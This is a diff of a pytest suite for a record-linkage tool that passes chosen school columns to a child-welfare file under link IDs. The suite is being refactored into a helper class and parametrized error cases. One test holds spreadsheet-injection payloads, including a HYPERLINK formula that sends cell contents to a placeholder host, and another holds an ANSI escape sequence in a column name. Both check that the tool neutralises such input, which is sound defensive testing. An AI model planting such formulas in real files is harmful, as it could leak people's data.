@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import csv
+import re
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 from samples.refusals import raises
@@ -34,169 +36,119 @@ def write(tmp_path: Path) -> Write:
     return write_text
 
 
-@pytest.fixture
-def pupils(write: Write) -> AgencyFile:
-    return AgencyFile(
-        write(
-            "pupils.csv",
-            "SID,name,school,grade",
-            "p2,Bo,North,5",
-            "p1,Ana,South,4",
-            "p1,Ana,South,4",
-            "p1,Ana,North,4",
-            "p9,Zoe,East,1",
-        ),
-        "SID",
-    )
-
-
-@pytest.fixture
-def children(write: Write) -> AgencyFile:
-    return AgencyFile(write("children.csv", "ID,name,county", "7,Ana,K", "8,Bo,L", "9,Cy,M"), "ID")
-
-
-@pytest.fixture
-def school_links(tmp_path: Path) -> Path:
-    write_links(tmp_path / "s.csv", [Link("p1", B), Link("p2", A)])
-    return tmp_path / "s.csv"
-
-
-@pytest.fixture
-def welfare_links(tmp_path: Path) -> Path:
-    write_links(tmp_path / "w.csv", [Link("7", B), Link("8", A)])
-    return tmp_path / "w.csv"
-
-
-@pytest.fixture
-def received(pupils: AgencyFile, school_links: Path, tmp_path: Path) -> Path:
-    extract(pupils, school_links, ["school", "grade"], tmp_path / "received.csv")
-    return tmp_path / "received.csv"
+PUPILS = (
+    "SID,name,school,grade",
+    *("p2,Bo,North,5", "p1,Ana,South,4", "p1,Ana,South,4", "p1,Ana,North,4", "p9,Zoe,East,1"),
+)
+CHILDREN = ("ID,name,county", "7,Ana,K", "8,Bo,L", "9,Cy,M")
+SCHOOL_LINKS, WELFARE_LINKS = (Link("p1", B), Link("p2", A)), (Link("7", B), Link("8", A))
 
 
 def lines(path: Path) -> list[str]:
     return path.read_text(encoding="utf-8").splitlines()
 
 
-def test_extract_holds_link_ids_and_chosen_columns_alone(received: Path) -> None:
-    assert lines(received) == [
-        "link_id,school,grade",
-        f"{A},North,5",
-        f"{B},North,4",
-        f"{B},South,4",
-    ]
+class Attaching:
+    """Child welfare's file and links, and what attaching a received file to them wrote."""
+
+    def __init__(self, write: Write, folder: Path) -> None:
+        self.file, self.links = AgencyFile(write("children.csv", *CHILDREN), "ID"), folder / "w.csv"
+        write_links(self.links, WELFARE_LINKS)
+        self.received, self.out = folder / "received.csv", folder / "out.csv"
+
+    def attach(self, *columns: str, **how: Any) -> Attached:
+        return attach(self.file, self.links, self.received, columns, self.out, **how)
+
+    def written(self) -> list[str]:
+        return lines(self.out)
 
 
-def test_extract_has_no_row_without_a_link_and_no_record_id(received: Path) -> None:
-    text = received.read_text()
-    for absent in ("East", "p1", "p2", "p9", "Ana"):
-        assert absent not in text
+@pytest.fixture
+def welfare(write: Write, tmp_path: Path) -> Attaching:
+    return Attaching(write, tmp_path)
 
 
-def test_order_of_the_extract_is_not_that_of_the_file(
-    pupils: AgencyFile, school_links: Path, write: Write, tmp_path: Path, received: Path
+@pytest.fixture
+def received(write: Write, tmp_path: Path) -> Path:
+    """What the schools handed over, where `welfare` looks for it."""
+    write_links(tmp_path / "s.csv", SCHOOL_LINKS)
+    pupils = AgencyFile(write("pupils.csv", *PUPILS), "SID")
+    extract(pupils, tmp_path / "s.csv", ["school", "grade"], tmp_path / "received.csv")
+    return tmp_path / "received.csv"
+
+
+def test_extract_holds_link_ids_and_chosen_columns_in_an_order_of_their_own(
+    received: Path, write: Write, tmp_path: Path
 ) -> None:
-    head, *rows = lines(pupils.path)
-    shuffled = AgencyFile(write("again.csv", head, *reversed(rows)), "SID")
-    extract(shuffled, school_links, ["school", "grade"], tmp_path / "again-extract.csv")
+    rows = [f"{A},North,5", f"{B},North,4", f"{B},South,4"]
+    assert lines(received) == ["link_id,school,grade", *rows]
+    shuffled = AgencyFile(write("again.csv", PUPILS[0], *reversed(PUPILS[1:])), "SID")
+    extract(shuffled, tmp_path / "s.csv", ["school", "grade"], tmp_path / "again-extract.csv")
     assert lines(tmp_path / "again-extract.csv") == lines(received)
 
 
-def test_attach_writes_record_id_and_listed_columns(
-    children: AgencyFile, welfare_links: Path, received: Path, tmp_path: Path
+def test_attach_writes_record_id_kept_and_listed_columns_and_on_request_rows_without_a_link(
+    welfare: Attaching, received: Path
 ) -> None:
-    done = attach(children, welfare_links, received, ["grade", "school"], tmp_path / "out.csv")
-    assert lines(tmp_path / "out.csv") == ["ID,grade,school", "7,4,North", "7,4,South", "8,5,North"]
-    assert done == Attached(rows=3, rows_attached=3)
+    assert welfare.attach("grade", "school") == Attached(rows=3, rows_attached=3)
+    assert welfare.written() == ["ID,grade,school", "7,4,North", "7,4,South", "8,5,North"]
+    welfare.attach("school", "grade", keep=["county"])
+    assert welfare.written()[:2] == ["ID,county,school,grade", "7,K,North,4"]
+    done = welfare.attach("school", "grade", keep_unlinked=True)
+    assert (welfare.written()[-1], done) == ("9,,", Attached(rows=4, rows_attached=3))
 
 
-def test_received_cells_are_no_formulas_for_a_spreadsheet(
-    children: AgencyFile, welfare_links: Path, tmp_path: Path
-) -> None:
-    received = tmp_path / "received.csv"
+def test_what_was_received_is_no_formula_for_a_spreadsheet(welfare: Attaching) -> None:
     cells = ['=HYPERLINK("http://x/?"&A1)', "@SUM(A1)", "-1.5", "+1 555-0100"]
-    with received.open("w", encoding="utf-8", newline="") as file:
-        csv.writer(file).writerows([["link_id", "school"], *([A, cell] for cell in cells)])
-    attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
-    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
-        rows = list(csv.reader(file))
-    assert [row[1] for row in rows[1:]] == [f"'{cells[0]}", f"'{cells[1]}", *cells[2:]]
+    with welfare.received.open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([["link_id", "=last"], *([A, cell] for cell in cells)])
+    welfare.attach("=last")
+    with welfare.out.open(encoding="utf-8", newline="") as file:
+        rows = [row[1] for row in csv.reader(file)]
+    assert rows == ["'=last", f"'{cells[0]}", f"'{cells[1]}", *cells[2:]]
 
 
-def test_a_received_column_is_no_formula_for_a_spreadsheet(
-    children: AgencyFile, welfare_links: Path, tmp_path: Path
+BOTH = ("school", "grade")
+
+
+@pytest.mark.parametrize(
+    ("received", "columns", "error", "said"),
+    [
+        (("link_id,school\x1b[2K", f"{A},x"), ("school",), ColumnNotListedError,
+         r"the column school\\x1b\[2K, which"),
+        (("link_id,school,grade", f"{A},North,5"), ("school",), ColumnNotListedError, "grade"),
+        (("link_id,school,grade", f"{A},North,5"), (*BOTH, "teacher"), LinksFileError,
+         "has no column teacher"),
+        (("school,grade", "x,y"), BOTH, LinksFileError, "no column link_id"),
+        (("linkid,school,grade", "x,y,y"), BOTH, LinksFileError, "no column link_id"),
+        (("link_id,school", f"{A},North", "7,South"), ("school",), LinksFileError,
+         "row 2: not a link ID"),
+        (("link_id,school", f"{C},North"), ("school",), LinksFileError,
+         "none of the link IDs.*same run"),
+        (("link_id,county", f"{A},X"), ("county",), ConfigError, "twice"),
+        (("link_id,ID", f"{A},X"), ("ID",), ConfigError,
+         "the column ID would be there twice.*in your own file"),
+    ],
+)  # fmt: skip
+def test_a_received_file_that_does_not_fit_is_refused_by_what_is_wrong_and_nothing_is_written(
+    welfare: Attaching, write: Write, received: tuple[str, ...], columns: Any, error: Any, said: str
 ) -> None:
-    received = tmp_path / "received.csv"
-    received.write_text(f"link_id,=last\n{A},Ortiz\n", "utf-8")
-    attach(children, welfare_links, received, ["=last"], tmp_path / "out.csv")
-    assert lines(tmp_path / "out.csv")[0] == "ID,'=last"
+    write("received.csv", *received)
+    with raises(error) as caught:
+        welfare.attach(*columns, keep=["county"])
+    assert re.search(said, f"{caught.value} {caught.value.hint}", re.DOTALL)
+    assert not welfare.out.exists()
 
 
-def test_a_received_column_with_control_characters_is_named_without_them(
-    children: AgencyFile, welfare_links: Path, write: Write, tmp_path: Path
+def test_a_received_file_of_no_rows_attaches_nothing_and_an_own_one_is_an_error(
+    welfare: Attaching, write: Write
 ) -> None:
-    received = write("odd.csv", "link_id,school\x1b[2K", f"{A},x")
-    with raises(ColumnNotListedError, match=r"the column school\\x1b\[2K, which"):
-        attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
-
-
-def test_kept_columns_stand_before_the_attached(
-    children, welfare_links, received, tmp_path
-) -> None:
-    out = tmp_path / "out.csv"
-    attach(children, welfare_links, received, ["school", "grade"], out, keep=["county"])
-    assert lines(out)[:2] == ["ID,county,school,grade", "7,K,North,4"]
-
-
-def test_rows_without_a_link_are_kept_on_request(
-    children, welfare_links, received, tmp_path
-) -> None:
-    out = tmp_path / "out.csv"
-    columns = ["school", "grade"]
-    done = attach(children, welfare_links, received, columns, out, keep_unlinked=True)
-    assert lines(out)[-1] == "9,,"
-    assert done == Attached(rows=4, rows_attached=3)
-
-
-def test_unlisted_column_of_a_received_file_is_refused(
-    children, welfare_links, received, tmp_path
-) -> None:
-    with raises(ColumnNotListedError, match="grade"):
-        attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
-    assert not (tmp_path / "out.csv").exists()
-
-
-def test_listed_column_that_was_not_received_is_named(children, welfare_links, received, tmp_path):
-    columns = ["school", "grade", "teacher"]
-    with raises(LinksFileError, match="has no column teacher"):
-        attach(children, welfare_links, received, columns, tmp_path / "out.csv")
-
-
-def test_received_file_of_no_rows_attaches_nothing(
-    children, welfare_links, write, tmp_path
-) -> None:
-    received = write("none.csv", "link_id,school")
-    done = attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
-    assert done == Attached(rows=0, rows_attached=0)
-    assert lines(tmp_path / "out.csv") == ["ID,school"]
-
-
-def test_own_file_of_no_rows_is_an_error(write, welfare_links, received, tmp_path) -> None:
-    empty = AgencyFile(write("empty.csv", "ID,name"), "ID")
+    write("received.csv", "link_id,school")
+    assert welfare.attach("school") == Attached(rows=0, rows_attached=0)
+    assert welfare.written() == ["ID,school"]
+    welfare.file = AgencyFile(write("empty.csv", "ID,name"), "ID")
     with pytest.raises(EmptyFileError):
-        attach(empty, welfare_links, received, ["school", "grade"], tmp_path / "out.csv")
-
-
-@pytest.mark.parametrize("head", ["school,grade", "linkid,school,grade"])
-def test_received_file_without_link_ids_is_refused(children, welfare_links, write, tmp_path, head):
-    received = write("odd.csv", head, "x" + ",y" * head.count(","))
-    with raises(LinksFileError, match="no column link_id"):
-        attach(children, welfare_links, received, ["school", "grade"], tmp_path / "out.csv")
-
-
-def test_received_cell_that_is_no_link_id_is_named_by_row(children, welfare_links, write, tmp_path):
-    received = write("odd.csv", "link_id,school", f"{A},North", "7,South")
-    with raises(LinksFileError, match="row 2: not a link ID"):
-        attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
+        welfare.attach("school")
 
 
 @pytest.mark.parametrize(
@@ -214,77 +166,42 @@ def test_received_cell_that_is_no_link_id_is_named_by_row(children, welfare_link
     ids=["empty", "UTF-16", "twice", "ZIP", "ragged", "open", "NUL", "long"],
 )
 def test_a_received_file_that_cannot_be_read_is_told_from_ones_own(
-    children: AgencyFile, welfare_links: Path, tmp_path: Path, content: bytes, told: str
+    welfare: Attaching, content: bytes, told: str
 ) -> None:
-    received = tmp_path / "received.csv"
-    received.write_bytes(content)
+    with raises(FileMissingError):
+        welfare.attach("school")
+    welfare.received.write_bytes(content)
     with raises(LinksFileError, match=told) as caught:
-        attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
+        welfare.attach("school")
     assert "received.csv" in str(caught.value)
     assert "blindlink extract" in str(caught.value.hint)
 
 
-def test_a_received_file_that_is_not_there_is_nobodys_fault(
-    children: AgencyFile, welfare_links: Path, tmp_path: Path
-) -> None:
-    with raises(FileMissingError):
-        attach(children, welfare_links, tmp_path / "none.csv", ["school"], tmp_path / "out.csv")
-
-
-def test_link_ids_of_another_run_are_refused(children, welfare_links, write, tmp_path) -> None:
-    received = write("other.csv", "link_id,school", f"{C},North")
-    with raises(LinksFileError, match="none of the link IDs") as caught:
-        attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
-    assert "same run" in str(caught.value.hint)
-
-
-def test_column_of_both_files_is_refused(children, welfare_links, write, tmp_path) -> None:
-    received = write("both.csv", "link_id,county", f"{A},X")
-    with raises(ConfigError, match="twice"):
-        attach(children, welfare_links, received, ["county"], tmp_path / "out.csv", keep=["county"])
-
-
-def test_a_received_column_named_as_that_of_ones_own_record_ids_is_refused_with_a_way_out(
-    children: AgencyFile, welfare_links: Path, write: Write, tmp_path: Path
-) -> None:
-    name = children.id_column
-    received = write("ids.csv", f"link_id,{name}", f"{A},X")
-    with raises(ConfigError, match=f"the column {name} would be there twice") as caught:
-        attach(children, welfare_links, received, [name], tmp_path / "out.csv")
-    assert "in your own file" in str(caught.value.hint)
-    assert not (tmp_path / "out.csv").exists()
-
-
-def test_only_listed_columns_can_be_chosen() -> None:
+def test_only_listed_columns_can_be_chosen_and_nothing_is_shared_unless_something_is_listed() -> (
+    None
+):
     assert choose_columns(["grade"], ["school", "grade"]) == ("grade",)
     assert choose_columns([], ["school", "grade"]) == ("school", "grade")
     with raises(ColumnNotListedError, match="name"):
         choose_columns(["grade", "name"], ["school", "grade"])
-
-
-def test_nothing_is_shared_unless_something_is_listed() -> None:
     with raises(ColumnNotListedError, match="no column is listed"):
         choose_columns([], [])
 
 
-def test_cells_with_commas_and_line_ends_survive(write, tmp_path) -> None:
-    path = tmp_path / "q.csv"
+def test_commas_and_line_ends_in_cells_survive_and_make_no_row_at_the_recipient(
+    welfare: Attaching, tmp_path: Path
+) -> None:
+    path, school_links = tmp_path / "q.csv", tmp_path / "s.csv"
     with path.open("w", encoding="utf-8", newline="") as file:
         csv.writer(file).writerows([["SID", "school"], ["p1", 'St. "X", East\nWing']])
-    write_links(tmp_path / "l.csv", [Link("p1", A)])
-    extract(AgencyFile(path, "SID"), tmp_path / "l.csv", ["school"], tmp_path / "o.csv")
+    write_links(school_links, SCHOOL_LINKS)
+    extract(AgencyFile(path, "SID"), school_links, ["school"], tmp_path / "o.csv")
     rows = list(csv.reader((tmp_path / "o.csv").read_text().splitlines(keepends=True)))
-    assert rows == [["link_id", "school"], [A, 'St. "X", East\nWing']]
-
-
-def test_a_carriage_return_in_a_cell_makes_no_row_at_the_recipient(
-    children: AgencyFile, school_links: Path, welfare_links: Path, tmp_path: Path
-) -> None:
-    (tmp_path / "old.csv").write_bytes(b'SID,school,grade\np1,"North\r8",4\np2,East,5\n')
-    handed, out = tmp_path / "handed.csv", tmp_path / "out.csv"
-    extract(AgencyFile(tmp_path / "old.csv", "SID"), school_links, ["school", "grade"], handed)
-    attach(children, welfare_links, handed, ["school", "grade"], out)
-    assert out.read_bytes() == b'ID,school,grade\n7,"North\r8",4\n8,East,5\n'
+    assert rows == [["link_id", "school"], [B, 'St. "X", East\nWing']]
+    path.write_bytes(b'SID,school,grade\np1,"North\r8",4\np2,East,5\n')
+    extract(AgencyFile(path, "SID"), school_links, ["school", "grade"], welfare.received)
+    welfare.attach("school", "grade")
+    assert welfare.out.read_bytes() == b'ID,school,grade\n7,"North\r8",4\n8,East,5\n'
 
 
 @pytest.mark.parametrize(
